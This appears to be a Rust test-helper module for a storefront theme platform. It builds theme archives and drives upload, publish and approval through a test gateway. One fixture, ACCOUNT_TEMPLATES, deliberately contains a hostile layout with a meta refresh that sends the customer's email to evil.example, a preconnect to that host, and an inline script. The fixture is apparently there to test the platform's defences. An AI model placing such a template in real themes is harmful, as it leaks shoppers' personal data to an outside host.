//! Themes: archives as their makers make them, and a store that tries them.

use std::io::Write as _;

use rawzip::path::EntryPath;
use serde_json::{Value, json};
use themes::file::Digest;
use themes::settings::Content;

use crate::{Client, Developer, Gateway, Merchant, Operator, Reply, Store, is_troubled, unique};

/// An archive of these files, whatever their names are, stored as they are.
pub fn zip(files: &[(String, Vec<u8>)]) -> Vec<u8> {
    let mut archive = rawzip::ZipArchiveWriter::new(Vec::new());
    for (name, bytes) in files {
        let path = EntryPath::verbatim(name.as_bytes());
        let (mut entry, config) = archive.new_file(path).start().expect("an entry");
        let mut writer = config.wrap(&mut entry);
        writer.write_all(bytes).expect("it is written to memory");
        let (_, descriptor) = writer.finish().expect("an entry");
        entry.finish(descriptor).expect("an entry");
    }
    archive.finish().expect("an archive")
}

/// What a theme is made of; change it at will.
#[derive(Debug, Clone)]
pub struct ThemeSource {
    pub manifest: Value,
    pub schema: Value,
    pub css: String,
}

impl ThemeSource {
    pub fn new(slug: &str) -> Self {
        Self {
            manifest: json!({
                "slug": slug, "name": "Plain Linen", "version": "1.0.0", "author": "Linen Works",
                "description": "For shops that sell one thing well.", "category": "fashion",
            }),
            schema: json!([
                {"name": "theme_info", "theme_name": "Plain Linen", "theme_version": "1.0.0",
                 "theme_author": "Linen Works"},
                {"name": "Look", "settings": [
                    {"type": "color", "id": "color", "label": "Color", "default": "#112233"},
                    {"type": "text", "id": "heading", "label": "Heading", "default": "Hello"},
                    {"type": "url", "id": "link", "label": "Link"},
                    {"type": "checkbox", "id": "wide", "label": "Wide", "default": false},
                ]},
            ]),
            css: "body { margin: 0 }".into(),
        }
    }

    #[must_use]
    pub fn version(mut self, version: &str) -> Self {
        self.manifest["version"] = json!(version);
        self
    }

    /// A theme that costs so much.
    #[must_use]
    pub fn price(mut self, amount: i64) -> Self {
        self.manifest["price"] = json!({"amount": amount, "currency": "INR"});
        self
    }

    pub fn files(&self) -> Vec<(String, Vec<u8>)> {
        let section = "<h1>{{ section.settings.title }}</h1>\n{% schema %}\n{\"name\": \"Hero\", \
             \"settings\": [{\"type\": \"text\", \"id\": \"title\", \"label\": \"Title\", \
             \"default\": \"Welcome\"}], \"presets\": [{\"name\": \"Hero\"}]}\n{% endschema %}\n";
        let index = json!({"sections": {"hero": {"type": "hero"}}, "order": ["hero"]});
        let layout = "<!doctype html><html><body>{{ content_for_layout }}</body></html>";
        [
            ("theme.json", self.manifest.to_string()),
            ("layout/theme.liquid", layout.to_owned()),
            ("templates/index.json", index.to_string()),
            ("config/settings_schema.json", self.schema.to_string()),
            ("sections/hero.liquid", section.to_owned()),
            ("assets/theme.css", self.css.clone()),
            ("locales/en.default.json", json!({"hello": "Hello"}).to_string()),
        ]
        .map(|(path, text)| (path.to_owned(), text.into_bytes()))
        .into()
    }

    pub fn zip(&self) -> Vec<u8> {
        zip(&self.files())
    }
}

/// A store that tries a theme of its own merchant's.
pub struct ThemeShop {
    pub gateway: Gateway,
    pub merchant: Merchant,
    pub store: Store,
    /// The merchant at the store.
    pub owner: Client,
    pub slug: String,
}

/// The digest of a release's content, as anybody computes it of its files and its settings.
pub fn content_sha256(files: &[Value], content: &Value) -> String {
    let content: Content = serde_json::from_value(content.clone()).expect("a release's content");
    let digest = |file: &Value| -> (String, Digest) {
        let text = |name: &str| file[name].as_str().expect("a file").to_owned();
        (text("path"), text("sha256").parse().expect("a digest"))
    };
    let files: Vec<_> = files.iter().map(digest).collect();
    let files = files.iter().map(|(path, digest)| (path.as_str(), digest));
    themes::release::content_sha256(files, &content).to_string()
}

impl ThemeShop {
    /// A store, open, with a theme uploaded and installed.
    pub async fn open() -> Self {
        let shop = Self::with_upload().await;
        shop.post("install", json!({})).await.expect(201);
        shop
    }

    /// A store, open, with a theme uploaded.
    pub async fn with_upload() -> Self {
        let gateway = Gateway::start_with(|options| options.shop_port = Some(0)).await;
        let merchant = Merchant::sign_up(&gateway).await;
        let store = merchant.open_shop().await;
        let owner = merchant.at(&store);
        let slug = unique("linen");
        let shop = Self { gateway, merchant, store, owner, slug };
        shop.upload(&ThemeSource::new(&shop.slug)).await.expect(201);
        shop
    }

    pub async fn upload(&self, source: &ThemeSource) -> Reply {
        upload(&self.merchant, source.zip()).await
    }

    pub fn path(&self, rest: &str) -> String {
        format!("/v1/themes/{}/{rest}", self.slug)
    }

    pub async fn post(&self, rest: &str, input: Value) -> Reply {
        self.owner.post(&self.path(rest)).json(input).await
    }

    pub async fn get(&self, rest: &str) -> Reply {
        self.owner.get(&self.path(rest)).await
    }

    /// Saves a draft with this heading; its version.
    pub async fn draft(&self, heading: &str) -> i64 {
        let input = json!({"settings": {"heading": heading}});
        let saved = self.owner.put(&self.path("editor/draft")).json(input).await.expect(200);
        saved.int("/draft/version")
    }

    /// Publishes a draft with this heading; the release.
    pub async fn publish(&self, heading: &str) -> Reply {
        let version = self.draft(heading).await;
        self.post("publish", json!({"draft_version": version})).await.expect(201)
    }

    /// What the storefront shows to anybody, a moment later.
    pub async fn storefront_theme(&self) -> Reply {
        self.gateway.advance(identity::storefront::CACHE_TIME);
        self.gateway.client().get(&self.front("theme")).await
    }

    pub fn front(&self, rest: &str) -> String {
        format!("/v1/storefront/{}/{rest}", self.store.subdomain)
    }
}

/// The files of a theme of the demo, as one of this slug.
pub fn demo_theme(name: &str, slug: &str) -> Vec<(String, Vec<u8>)> {
    let folder = local::demo::themes::FOLDERS.iter().find(|folder| folder.slug == name);
    let files = folder.expect("a theme of the demo").files.iter();
    let renamed = |(path, text): &(&str, &str)| {
        let text = if *path == "theme.json" {
            text.replace(&format!("\"slug\": \"{name}\""), &format!("\"slug\": \"{slug}\""))
        } else {
            (*text).to_owned()
        };
        ((*path).to_owned(), text.into_bytes())
    };
    files.map(renamed).collect()
}

/// The templates of customers and of the password page, as a theme would write them that is up to no good: it has scripts,
/// and leads and connects elsewhere.
const ACCOUNT_TEMPLATES: [(&str, &str); 11] = [
    (
        "layout/theme.liquid",
        "<!doctype html><html><head><title>{{ page_title }}</title>{{ content_for_header }}\
         <meta http-equiv=\"refresh\" content=\"9;url=https://evil.example/?{{ customer.email }}\">\
         <link rel=\"preconnect\" href=\"https://evil.example\">\
         {{ 'theme.css' | asset_url | stylesheet_tag }}</head><body>\
         {% if customer %}<p>Signed in as {{ customer.email }}</p>{% endif %}\
         <script>document.title = 'taken';</script>{{ content_for_layout }}</body></html>",
    ),
    (
        "layout/password.liquid",
        "<!doctype html><html><head>{{ content_for_header }}</head><body class=\"closed\">\
         {{ content_for_layout }}</body></html>",
    ),
    (
        "templates/password.liquid",
        "<h1>Soon</h1><p>{{ shop.password_message }}</p>{% form 'storefront_password' %}\
         {{ form.errors | default_errors }}<input type=\"password\" name=\"password\">{% endform %}",
    ),
    (
        "templates/customers/login.liquid",
        "<h1>Theme login</h1>{% form 'customer_login' %}{{ form.errors | default_errors }}\
         <input name=\"customer[email]\" value=\"{{ form.email }}\">\
         <input type=\"password\" name=\"customer[password]\" value=\"{{ form.password }}\">{% endform %}\
         {% form 'recover_customer_password' %}{% if form.posted_successfully? %}<p>A link is sent</p>{% endif %}\
         {% for field in form.errors %}<p>{{ form.errors.messages[field] }}</p>{% endfor %}\
         <input name=\"email\">{% endform %}{% form 'guest_login' %}<button>Guest</button>{% endform %}",
    ),
    (
        "templates/customers/register.liquid",
        "<h1>Theme register</h1>{% form 'create_customer' %}{% for field in form.errors %}\
         <p>{{ form.errors.translated_fields[field] | capitalize }} {{ form.errors.messages[field] }}</p>{% endfor %}\
         <input name=\"customer[first_name]\" value=\"{{ form.first_name }}\">\
         <input name=\"customer[email]\" value=\"{{ form.email }}\">\
         <input name=\"customer[password]\" value=\"{{ form.password }}\">{% endform %}",
    ),
    (
        "templates/customers/account.liquid",
        "<h1>Theme account of {{ customer.first_name }}</h1>{% paginate customer.orders by 20 %}\
         {% for order in customer.orders %}<a href=\"{{ order.customer_url }}\">{{ order.name }}</a> \
         {{ order.financial_status_label }} {{ order.total_price | money }}{% else %}No orders{% endfor %}\
         {% endpaginate %}<p>{{ customer.addresses_count }} addresses</p>",
    ),
    (
        "templates/customers/order.json",
        "{\"sections\": {\"main\": {\"type\": \"main-order\"}}, \"order\": [\"main\"]}",
    ),
    (
        "sections/main-order.liquid",
        "<h1>Theme order {{ order.name }}</h1>{% for item in order.line_items %}<p>{{ item.title }} × \
         {{ item.quantity }} {{ item.final_line_price | money }} {{ item.fulfillment.tracking_number }}</p>\
         {% endfor %}<p>{{ order.total_price | money }} {{ order.fulfillment_status_label }}</p>\
         {{ order.shipping_address | format_address }}<a href=\"{{ order.order_status_url }}\">Status</a>\
         {% schema %}{\"name\": \"Order\", \"settings\": []}{% endschema %}",
    ),
    (
        "templates/customers/addresses.liquid",
        "<h1>Theme addresses</h1>{% form 'customer_address', customer.new_address %}\
         <input name=\"address[address1]\" value=\"{{ form.address1 }}\">\
         <select name=\"address[country]\" data-default=\"{{ form.country }}\">{{ all_country_option_tags }}</select>\
         {{ form.set_as_default_checkbox }}{% endform %}\
         {% for address in customer.addresses %}{% form 'customer_address', address %}\
         <input name=\"address[city]\" value=\"{{ form.city }}\"> <i>{{ form.province }}</i>\
         {% if form.errors %}<b>{{ form.errors.messages.city }}</b>{% endif %}\
         {{ form.set_as_default_checkbox }}{% endform %}\
         <button data-target=\"{{ address.url }}\" data-confirm-message=\"Sure?\">Delete</button>{% endfor %}",
    ),
    (
        "templates/customers/reset_password.liquid",
        "<h1>Theme reset</h1>{% form 'reset_customer_password' %}{{ form.errors | default_errors }}\
         <input name=\"customer[password]\"><input name=\"customer[password_confirmation]\">{% endform %}",
    ),
    (
        "templates/customers/activate_account.liquid",
        "<h1>Theme activation</h1>{% form 'activate_customer_password' %}{{ form.errors | default_errors }}\
         <input name=\"customer[password]\"><input name=\"customer[password_confirmation]\">{% endform %}",
    ),
];

/// A theme with templates of customers and of the password page.
pub fn account_theme(slug: &str) -> Vec<(String, Vec<u8>)> {
    let mut files = ThemeSource::new(slug).files();
    files.retain(|(path, _)| path != "layout/theme.liquid");
    files.extend(ACCOUNT_TEMPLATES.map(|(path, text)| (path.to_owned(), text.as_bytes().to_vec())));
    files
}

/// Uploads an archive.
pub async fn upload(client: &Client, zip: Vec<u8>) -> Reply {
    let input = client.post("/v1/themes/packages/upload").header("content-type", "application/zip");
    // What can be repeated costs more, which some tests count.
    let input = if is_troubled() { input.key(&unique("upload")) } else { input };
    input.body(zip).await
}

/// Submits a package that was uploaded, and has it accepted.
pub async fn accept(developer: &Developer, operator: &Operator, package: &str, listing: Value) {
    let path = |action: &str| format!("/v1/themes/packages/{package}/{action}");
    developer.post(&path("submit")).json(listing).await.expect(202);
    operator.post(&path("approve")).json(json!({})).await.expect(200);
}
